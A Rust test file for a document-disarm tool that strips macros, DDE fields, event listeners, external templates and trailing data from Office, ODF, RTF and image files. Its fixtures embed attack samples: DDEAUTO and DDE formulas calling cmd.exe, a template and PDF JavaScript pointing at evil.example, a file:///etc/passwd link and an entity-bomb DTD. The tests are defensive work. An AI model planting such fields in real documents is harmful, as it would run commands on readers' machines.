use super::zip_write::{self, NewEntry};
use super::*;
use crate::context::ScanContext;
use crate::report::scan_bytes;
use haetae_core::Verdict;

fn package(parts: &[(&str, &str)]) -> Vec<u8> {
    let entries: Vec<NewEntry<'_>> = parts
        .iter()
        .map(|(name, text)| NewEntry {
            name,
            data: text.as_bytes(),
            stored: false,
        })
        .collect();
    zip_write::write(&entries).unwrap()
}

const CONTENT_TYPES_DOCM: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;
const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const DOC_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#;
const DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>송금 확인서</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
const STYLES: &str = r#"<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#;

fn docm() -> Vec<u8> {
    package(&[
        ("[Content_Types].xml", CONTENT_TYPES_DOCM),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", DOCUMENT),
        ("word/_rels/document.xml.rels", DOC_RELS),
        ("word/styles.xml", STYLES),
        ("word/vbaProject.bin", "\u{d0}\u{cf} not really a CFB"),
        ("word/_rels/vbaProject.bin.rels", ROOT_RELS),
        ("word/vbaData.xml", "<wne:vbaSuppData/>"),
    ])
}

#[test]
fn a_docm_loses_its_macros_external_template_and_dde_and_keeps_its_text() {
    let limits = Limits::default();
    let original = scan_bytes(&docm(), Some("transfer.docm"), &limits);
    assert_ne!(original.verdict, Verdict::Clean, "{:?}", original.findings);

    let d = disarm(&docm(), original.detected_type, &limits).unwrap();
    let whats: Vec<&str> = d.removed.iter().map(|r| r.what.as_str()).collect();
    for expected in [
        "macro project",
        "external relationship (target neutralised)",
        "relationship to active content",
        "macro-enabled content type",
        "DDE field",
    ] {
        assert!(whats.contains(&expected), "{expected} not in {whats:?}");
    }

    let mut ctx = ScanContext::new(&limits, d.bytes.len());
    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
    let names: Vec<&str> = rebuilt.entries.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "[Content_Types].xml",
            "_rels/.rels",
            "word/document.xml",
            "word/_rels/document.xml.rels",
            "word/styles.xml"
        ]
    );
    let read = |name: &str| {
        let mut ctx = ScanContext::new(&limits, d.bytes.len());
        let e = rebuilt.entry(name).unwrap();
        String::from_utf8(zip::read(&d.bytes, e, &mut ctx).unwrap().into_owned()).unwrap()
    };
    let rels = read("word/_rels/document.xml.rels");
    assert!(
        !rels.contains("evil.example") && !rels.contains("vbaProject"),
        "{rels}"
    );
    assert!(rels.contains(r#"Target="about:blank""#), "{rels}");
    assert!(
        rels.contains("styles.xml"),
        "the styles relationship stays: {rels}"
    );
    let types = read("[Content_Types].xml");
    assert!(
        !types.contains("macroEnabled")
            && !types.contains("vbaProject")
            && !types.contains("vbaData")
    );
    let doc = read("word/document.xml");
    assert!(
        doc.contains("송금 확인서") && !doc.contains("DDEAUTO"),
        "{doc}"
    );

    // The copy is a clean, well-formed package to the inspector.
    let again = scan_bytes(&d.bytes, Some("transfer.docx"), &limits);
    assert_eq!(again.verdict, Verdict::Clean, "{:?}", again.findings);
}

#[test]
fn a_part_with_a_dtd_fails_the_rebuild_with_its_place() {
    let bomb = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><w:document xmlns:w="x">&lol;</w:document>"#;
    let data = package(&[
        ("[Content_Types].xml", CONTENT_TYPES_DOCM),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", bomb),
    ]);
    match disarm(&data, FileType::Docx, &Limits::default()) {
        Err(ConvertError::Failed(f)) => {
            assert_eq!(f[0].code, "CONVERT-XML-DTD");
            assert_eq!(f[0].location, "word/document.xml");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn an_rtf_loses_its_objects_and_keeps_its_text() {
    // An OLE 1.0 object of class Equation.3 (MS-OLEDS 2.2.4), as hex.
    let mut ole = Vec::new();
    ole.extend_from_slice(&0x0501u32.to_le_bytes());
    ole.extend_from_slice(&2u32.to_le_bytes());
    ole.extend_from_slice(&11u32.to_le_bytes());
    ole.extend_from_slice(b"Equation.3\0");
    ole.extend_from_slice(&[0; 8]);
    ole.extend_from_slice(&3u32.to_le_bytes());
    ole.extend_from_slice(b"abc");
    let hex: String = ole.iter().map(|b| format!("{b:02x}")).collect();
    let rtf = format!(
        "{{\\rtf1\\ansi{{\\fonttbl{{\\f0 Batang;}}}}\\f0 Hello \\{{world\\}}{{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata {hex}}}}}{{\\*\\objdata 01050000}}\\par Bye}}"
    );
    let rtf = rtf.as_bytes();
    let limits = Limits::default();
    let before = scan_bytes(rtf, Some("letter.rtf"), &limits);
    assert_ne!(before.verdict, Verdict::Clean, "{:?}", before.findings);
    let d = disarm(rtf, FileType::Rtf, &limits).unwrap();
    let text = String::from_utf8(d.bytes.clone()).unwrap();
    assert_eq!(
        text,
        r"{\rtf1\ansi{\fonttbl{\f0 Batang;}}\f0 Hello \{world\}\par Bye}"
    );
    assert_eq!(d.removed.len(), 2, "{:?}", d.removed);
    let after = scan_bytes(&d.bytes, Some("letter.rtf"), &limits);
    assert_eq!(after.verdict, Verdict::Clean, "{:?}", after.findings);
    // An unbalanced document is a failure, not a guess.
    assert!(matches!(
        disarm(br"{\rtf1 {\object never closed", FileType::Rtf, &limits),
        Err(ConvertError::Failed(_))
    ));
}

#[test]
fn text_is_normalised_to_utf8() {
    let limits = Limits::default();
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("계좌 123\0".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let d = disarm(&utf16, FileType::Text, &limits).unwrap();
    assert_eq!(d.bytes, "계좌 123".as_bytes());
    assert!(matches!(
        disarm(b"\xb0\xe8\xc1\xc2", FileType::Text, &limits),
        Err(ConvertError::Failed(f)) if f[0].code == "CONVERT-TEXT-ENCODING"
    ));
    assert_eq!(
        disarm(b"\xd0\xcf\x11\xe0", FileType::Msi, &limits).unwrap_err(),
        ConvertError::Unsupported(FileType::Msi)
    );
    // A type with a text rendition: a truncated compound file is a failure, not a gap.
    assert!(matches!(
        disarm(b"\xd0\xcf\x11\xe0", FileType::Doc, &limits),
        Err(ConvertError::Failed(f)) if f[0].code == "CONVERT-DOC-CFB"
    ));
}

fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], body: &[u8]) {
    out.extend(u32::try_from(body.len()).unwrap().to_be_bytes());
    out.extend(kind);
    out.extend(body);
    let mut c = crc32fast::Hasher::new();
    c.update(kind);
    c.update(body);
    out.extend(c.finalize().to_be_bytes());
}

/// A 3x2 RGB PNG (filters None, Sub, Paeth) with a tEXt chunk and bytes after IEND.
pub(super) fn png_with_metadata(filter_of_row_1: u8) -> Vec<u8> {
    let mut raw = Vec::new();
    for (row, filter) in [(0u8, 0u8), (1, filter_of_row_1)] {
        raw.push(filter);
        for x in 0..9u8 {
            raw.push(row.wrapping_mul(40).wrapping_add(x * 7));
        }
    }
    let idat = miniz_oxide::deflate::compress_to_vec_zlib(&raw, 6);
    let mut ihdr = Vec::new();
    ihdr.extend(3u32.to_be_bytes());
    ihdr.extend(2u32.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    let mut png = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    png_chunk(&mut png, b"IHDR", &ihdr);
    png_chunk(&mut png, b"tEXt", b"Comment\0<script>alert(1)</script>");
    png_chunk(&mut png, b"gAMA", &45455u32.to_be_bytes());
    png_chunk(&mut png, b"IDAT", &idat);
    png_chunk(&mut png, b"IEND", &[]);
    png.extend(b"PK\x03\x04 a zip appended to the picture");
    png
}

#[test]
fn a_png_is_decoded_and_re_encoded_without_its_metadata() {
    let limits = Limits::default();
    let d = disarm(&png_with_metadata(4), FileType::Png, &limits).unwrap();
    let whats: Vec<&str> = d.removed.iter().map(|r| r.what.as_str()).collect();
    assert_eq!(whats, ["tEXt chunk", "34 bytes after IEND"]);
    assert!(!d.bytes.windows(4).any(|w| w == b"tEXt"));
    assert!(
        d.bytes.windows(4).any(|w| w == b"gAMA"),
        "colour chunks stay"
    );
    assert!(d.bytes.ends_with(b"IEND\xAE\x42\x60\x82"));
    let again = scan_bytes(&d.bytes, Some("x.png"), &limits);
    assert_eq!(again.verdict, Verdict::Clean, "{:?}", again.findings);
    // Pixels survive: the rebuilt IDAT inflates to the same scanlines.
    let redone = disarm(&d.bytes, FileType::Png, &limits).unwrap();
    assert_eq!(redone.bytes, d.bytes, "a second rebuild changes nothing");
    // A row with filter type 7 cannot be decoded: a failure at its row.
    match disarm(&png_with_metadata(7), FileType::Png, &limits) {
        Err(ConvertError::Failed(f)) => {
            assert_eq!(f[0].code, "CONVERT-PNG-FILTER");
            assert_eq!(f[0].location, "pass 1 row 1");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_jpeg_loses_comments_exif_and_trailing_data() {
    let seg = |marker: u8, body: &[u8]| {
        let mut s = vec![0xFF, marker];
        s.extend(u16::try_from(body.len() + 2).unwrap().to_be_bytes());
        s.extend(body);
        s
    };
    let mut jpeg = vec![0xFF, 0xD8];
    jpeg.extend(seg(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"));
    jpeg.extend(seg(0xE1, b"Exif\0\0MM\0*"));
    jpeg.extend(seg(0xFE, b"made by a camera"));
    jpeg.extend(seg(0xDB, &[0; 65]));
    jpeg.extend(seg(0xC0, &[8, 0, 1, 0, 1, 1, 1, 0x11, 0]));
    jpeg.extend(seg(0xC4, &[0; 17]));
    jpeg.extend(seg(0xDA, &[1, 1, 0, 0, 63, 0]));
    jpeg.extend([0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56]);
    jpeg.extend([0xFF, 0xD9]);
    jpeg.extend(b"MZ trailing payload");
    let d = disarm(&jpeg, FileType::Jpeg, &Limits::default()).unwrap();
    let whats: Vec<&str> = d.removed.iter().map(|r| r.what.as_str()).collect();
    assert_eq!(
        whats,
        [
            "EXIF/XMP metadata (APP1)",
            "comment (COM)",
            "19 bytes after EOI"
        ]
    );
    assert!(
        d.bytes
            .ends_with(&[0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56, 0xFF, 0xD9])
    );
    assert!(!d.bytes.windows(4).any(|w| w == b"Exif"));
    // A scan before any frame header is refused.
    let mut bad = vec![0xFF, 0xD8];
    bad.extend(seg(0xDA, &[1, 1, 0, 0, 63, 0]));
    assert!(matches!(
        disarm(&bad, FileType::Jpeg, &Limits::default()),
        Err(ConvertError::Failed(f)) if f[0].code == "CONVERT-JPEG-STRUCTURE"
    ));
}

#[test]
fn a_png_chunk_with_a_wrong_crc_fails_the_conversion() {
    let mut png = png_with_metadata(0);
    // The last byte of IHDR's CRC (8 signature + 8 header + 13 body + 3).
    png[8 + 8 + 13 + 3] ^= 0xFF;
    match disarm(&png, FileType::Png, &Limits::default()) {
        Err(ConvertError::Failed(f)) => assert_eq!(f[0].code, "CONVERT-PNG-CRC"),
        other => panic!("{other:?}"),
    }
}

const ODT_MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Pictures/logo.png" manifest:media-type="image/png"/><manifest:file-entry manifest:full-path="Pictures/unused.png" manifest:media-type="image/png"/><manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Object 1/content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="ObjectReplacements/Object 1" manifest:media-type="application/x-openoffice-gdimetafile"/></manifest:manifest>"#;
const ODT_CONTENT: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>송금 확인서</text:p><text:p><text:a xlink:type="simple" xlink:href="&#109;acro:///Standard.Module1.Main">click</text:a> <text:a xlink:href="https://bank.example/">site</text:a></text:p><draw:frame draw:name="Object1"><draw:object xlink:href="./Object 1" xlink:type="simple"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame><draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame></office:text></office:body></office:document-content>"#;
const ODT_STYLES: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2"><office:styles><office:event-listeners><script:event-listener script:event-name="dom:click" xlink:href='javascript:alert(1)'/></office:event-listeners></office:styles></office:document-styles>"#;

fn odt(mimetype_stored: bool, content: &str) -> Vec<u8> {
    let parts: [(&str, &[u8], bool); 10] = [
        (
            "mimetype",
            b"application/vnd.oasis.opendocument.text",
            mimetype_stored,
        ),
        ("content.xml", content.as_bytes(), false),
        ("styles.xml", ODT_STYLES.as_bytes(), false),
        ("Pictures/logo.png", b"\x89PNG not really", false),
        ("Pictures/unused.png", b"\x89PNG not really either", false),
        (
            "Basic/Standard/Module1.xml",
            b"<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>",
            false,
        ),
        ("Object 1/content.xml", b"<office:document-content/>", false),
        (
            "ObjectReplacements/Object 1",
            b"\x01\x00\x00\x00 metafile",
            false,
        ),
        ("Configurations2/accelerator/current.xml", b"", false),
        ("META-INF/manifest.xml", ODT_MANIFEST.as_bytes(), false),
    ];
    let entries: Vec<NewEntry<'_>> = parts
        .iter()
        .map(|&(name, data, stored)| NewEntry { name, data, stored })
        .collect();
    zip_write::write(&entries).unwrap()
}

#[test]
fn an_odt_loses_its_macros_listeners_and_objects_and_keeps_its_text() {
    let limits = Limits::default();
    let data = odt(true, ODT_CONTENT);
    let original = scan_bytes(&data, Some("transfer.odt"), &limits);
    assert_eq!(original.detected_type, FileType::Odf);
    let d = disarm(&data, FileType::Odf, &limits).unwrap();
    assert_eq!(d.file_type, FileType::Odf);
    let has = |what: &str, location: &str| {
        d.removed
            .iter()
            .any(|r| r.what == what && r.location.contains(location))
    };
    for (what, location) in [
        ("macro library", "Basic/Standard/Module1.xml"),
        ("embedded object", "Object 1/content.xml"),
        (
            "embedded object replacement image",
            "ObjectReplacements/Object 1",
        ),
        ("picture the content does not use", "Pictures/unused.png"),
        (
            "part the content does not need",
            "Configurations2/accelerator/current.xml",
        ),
        ("script block", "content.xml <office:scripts>"),
        ("event listeners", "styles.xml <office:event-listeners>"),
        ("script link (blanked)", "content.xml <text:a> -> macro:///"),
        (
            "embedded object link (blanked)",
            "content.xml <draw:object> -> ./Object 1",
        ),
        (
            "link to a removed part (blanked)",
            "<draw:image> -> ./ObjectReplacements/Object 1",
        ),
    ] {
        assert!(
            has(what, location),
            "{what} at {location} not in {:?}",
            d.removed
        );
    }
    assert!(!d.removed.iter().any(|r| r.location.contains("logo.png")));

    let mut ctx = ScanContext::new(&limits, d.bytes.len());
    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
    let names: Vec<&str> = rebuilt.entries.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "mimetype",
            "content.xml",
            "styles.xml",
            "Pictures/logo.png",
            "META-INF/manifest.xml"
        ]
    );
    assert_eq!(rebuilt.entries[0].method, 0, "mimetype is stored");
    assert_eq!(
        &d.bytes[30..38],
        b"mimetype",
        "mimetype is the first local entry"
    );
    let read = |name: &str| {
        let mut ctx = ScanContext::new(&limits, d.bytes.len());
        let e = rebuilt.entry(name).unwrap();
        String::from_utf8(zip::read(&d.bytes, e, &mut ctx).unwrap().into_owned()).unwrap()
    };
    let content = read("content.xml");
    for gone in [
        "office:scripts",
        "event-listener",
        "vnd.sun.star.script",
        "&#109;acro",
        "Object 1",
    ] {
        assert!(!content.contains(gone), "{gone} in {content}");
    }
    for kept in [
        "송금 확인서",
        "https://bank.example/",
        "Pictures/logo.png",
        "<draw:object xlink:href=\"\"",
    ] {
        assert!(content.contains(kept), "{kept} not in {content}");
    }
    let styles = read("styles.xml");
    assert!(
        !styles.contains("javascript") && styles.contains("<office:styles>"),
        "{styles}"
    );
    let manifest = read("META-INF/manifest.xml");
    for gone in ["Basic/", "Object 1", "unused.png"] {
        assert!(!manifest.contains(gone), "{gone} in {manifest}");
    }
    assert!(
        manifest.contains(r#"manifest:full-path="/""#) && manifest.contains("Pictures/logo.png")
    );

    // The copy is read as ODF again and scans clean.
    let again = scan_bytes(&d.bytes, Some("transfer.odt"), &limits);
    assert_eq!(again.detected_type, FileType::Odf);
    assert_eq!(again.verdict, Verdict::Clean, "{:?}", again.findings);
}

#[test]
fn an_odt_part_with_a_dtd_fails_the_rebuild_with_its_place() {
    let bomb = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><office:document-content>&lol;</office:document-content>"#;
    let Err(ConvertError::Failed(f)) = disarm(&odt(true, bomb), FileType::Odf, &Limits::default())
    else {
        panic!("a DTD must fail the rebuild");
    };
    assert_eq!(f[0].code, "CONVERT-XML-DTD");
    assert_eq!(f[0].location, "content.xml");
}

#[test]
fn an_odt_without_a_mimetype_fails_and_an_encrypted_one_is_unsupported() {
    let entries = [NewEntry {
        name: "content.xml",
        data: ODT_CONTENT.as_bytes(),
        stored: false,
    }];
    let data = zip_write::write(&entries).unwrap();
    let Err(ConvertError::Failed(f)) = disarm(&data, FileType::Odf, &Limits::default()) else {
        panic!("no mimetype must fail");
    };
    assert_eq!(f[0].code, "CONVERT-ODF-MIMETYPE");

    let manifest = r#"<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry></manifest:manifest>"#;
    let entries = [
        NewEntry {
            name: "mimetype",
            data: b"application/vnd.oasis.opendocument.text",
            stored: true,
        },
        NewEntry {
            name: "content.xml",
            data: b"\x8f\x12 ciphertext",
            stored: false,
        },
        NewEntry {
            name: "META-INF/manifest.xml",
            data: manifest.as_bytes(),
            stored: false,
        },
    ];
    let data = zip_write::write(&entries).unwrap();
    assert_eq!(
        disarm(&data, FileType::Odf, &Limits::default()).unwrap_err(),
        ConvertError::Encrypted(FileType::Odf)
    );
}

#[test]
fn an_empty_script_block_is_taken_out_without_a_report() {
    let content = r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts/><office:body><office:text/></office:body></office:document-content>"#;
    let limits = Limits::default();
    let d = disarm(&odt(true, content), FileType::Odf, &limits).unwrap();
    assert!(
        !d.removed.iter().any(|r| r.what == "script block"),
        "{:?}",
        d.removed
    );
    let mut ctx = ScanContext::new(&limits, d.bytes.len());
    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
    let e = rebuilt.entry("content.xml").unwrap();
    let text = zip::read(&d.bytes, e, &mut ctx).unwrap();
    assert!(!String::from_utf8_lossy(&text).contains("office:scripts"));
}

#[test]
fn renamed_namespace_prefixes_do_not_hide_listeners_or_script_links() {
    let content = r#"<?xml version="1.0" encoding="UTF-8"?><o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:L="http://www.w3.org/1999/xlink" xmlns:t="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><o:scripts><o:event-listeners><ev xmlns="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/><event-listener xmlns="urn:oasis:names:tc:opendocument:xmlns:script:1.0" L:href="macro:x"/></o:event-listeners></o:scripts><o:body><o:text><t:p><t:a L:href='vnd.sun.star.script:A.B.C?location=document'>go</t:a>kept</t:p></o:text></o:body></o:document-content>"#;
    let limits = Limits::default();
    let d = disarm(&odt(true, content), FileType::Odf, &limits).unwrap();
    let mut ctx = ScanContext::new(&limits, d.bytes.len());
    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
    let e = rebuilt.entry("content.xml").unwrap();
    let text = String::from_utf8(zip::read(&d.bytes, e, &mut ctx).unwrap().into_owned()).unwrap();
    for gone in [
        "o:scripts",
        "event-listener",
        "macro:",
        "vnd.sun.star.script",
    ] {
        assert!(!text.contains(gone), "{gone} in {text}");
    }
    assert!(text.contains("<t:a L:href=''>go</t:a>kept"), "{text}");
    assert!(
        d.removed
            .iter()
            .any(|r| r.what == "script link (blanked)" && r.location.contains("<t:a>")),
        "{:?}",
        d.removed
    );
}

#[test]
fn odf_dde_and_external_links_are_taken_out() {
    let content = r##"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:dde-connection-decls><text:dde-connection-decl office:name="calc" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls><text:p>Rate: <text:dde-connection text:connection-name="calc">1.25</text:dde-connection></text:p><text:section text:name="S"><text:section-source xlink:href="file:///etc/passwd"/></text:section><text:p><text:a xlink:href="https://bank.example/">site</text:a> <text:a xlink:href="smb://host/share/x.exe">share</text:a> <text:a xlink:href="#Top">top</text:a></text:p><draw:frame><draw:image xlink:href="http://tracker.example/pixel.png"/></draw:frame><draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame><draw:frame><draw:applet draw:code="Evil.class" xlink:href="http://x.example/"/></draw:frame><table:table table:name="T"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)" office:value="0"><text:p>0</text:p></table:table-cell><table:table-cell table:formula="of:=SUM([.A1:.A2])" office:value="3"><text:p>3</text:p></table:table-cell><table:table-cell table:formula="of:=['file:///secret.ods'#$Sheet1.A1]"/></table:table-row></table:table><table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></table:dde-link></table:dde-links></office:text></office:body></office:document-content>"##;
    let limits = Limits::default();
    let d = disarm(&odt(true, content), FileType::Odf, &limits).unwrap();
    let mut ctx = ScanContext::new(&limits, d.bytes.len());
    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
    let e = rebuilt.entry("content.xml").unwrap();
    let text = String::from_utf8(zip::read(&d.bytes, e, &mut ctx).unwrap().into_owned()).unwrap();
    for gone in [
        "dde-connection",
        "dde-link",
        "dde-source",
        "DDE(",
        "file:///",
        "smb://",
        "tracker.example",
        "draw:applet",
    ] {
        assert!(!text.contains(gone), "{gone} in {text}");
    }
    for kept in [
        "<text:p>Rate: 1.25</text:p>",
        r#"xlink:href="https://bank.example/""#,
        r##"xlink:href="#Top""##,
        r#"xlink:href="Pictures/logo.png""#,
        r#"table:formula="of:=SUM([.A1:.A2])""#,
        r#"table:formula="" office:value="0""#,
    ] {
        assert!(text.contains(kept), "{kept} not in {text}");
    }
    for what in [
        "DDE connection declarations",
        "DDE links",
        "DDE field (its shown text kept)",
        "Java applet",
        "hyperlink to a non-web target (blanked)",
        "external link fetched by a reader (blanked)",
    ] {
        assert!(
            d.removed.iter().any(|r| r.what == what),
            "{what}: {:?}",
            d.removed
        );
    }
    assert_eq!(
        d.removed
            .iter()
            .filter(|r| r.what.starts_with("formula reaching outside"))
            .count(),
        2
    );
}

#[test]
fn a_compound_copy_that_would_not_scan_clean_falls_back_to_the_rendition() {
    let limits = Limits::default();
    // A bare compound file whose CONTENTS stream is a PDF with JavaScript: the copy keeps
    // the stream (no macro or OLE-object name), so it would scan as the original does.
    let pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n\
2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n\
3 0 obj\n<< /S /JavaScript /JS (app.launchURL('http://evil.example/')) >>\nendobj\n\
trailer\n<< /Root 1 0 R >>\n%%EOF\n";
    let file = crate::container::cfb::build::cfb(&[
        ("CONTENTS", pdf),
        ("Notes", b"Quarterly results for the board"),
    ]);
    assert_ne!(
        scan_bytes(&file, None, &limits).verdict,
        Verdict::Clean,
        "the fixture must be flagged"
    );
    let d = disarm(&file, FileType::Cfb, &limits).unwrap();
    assert_eq!(d.file_type, FileType::Text);
    assert!(
        d.removed[0].what.starts_with("no same-format copy"),
        "{:?}",
        d.removed[0]
    );
    // Without the PDF the same file gets a same-format copy that scans clean.
    let plain = crate::container::cfb::build::cfb(&[("Notes", b"Quarterly results for the board")]);
    let d = disarm(&plain, FileType::Cfb, &limits).unwrap();
    assert_eq!(d.file_type, FileType::Cfb);
    assert_eq!(scan_bytes(&d.bytes, None, &limits).verdict, Verdict::Clean);
}
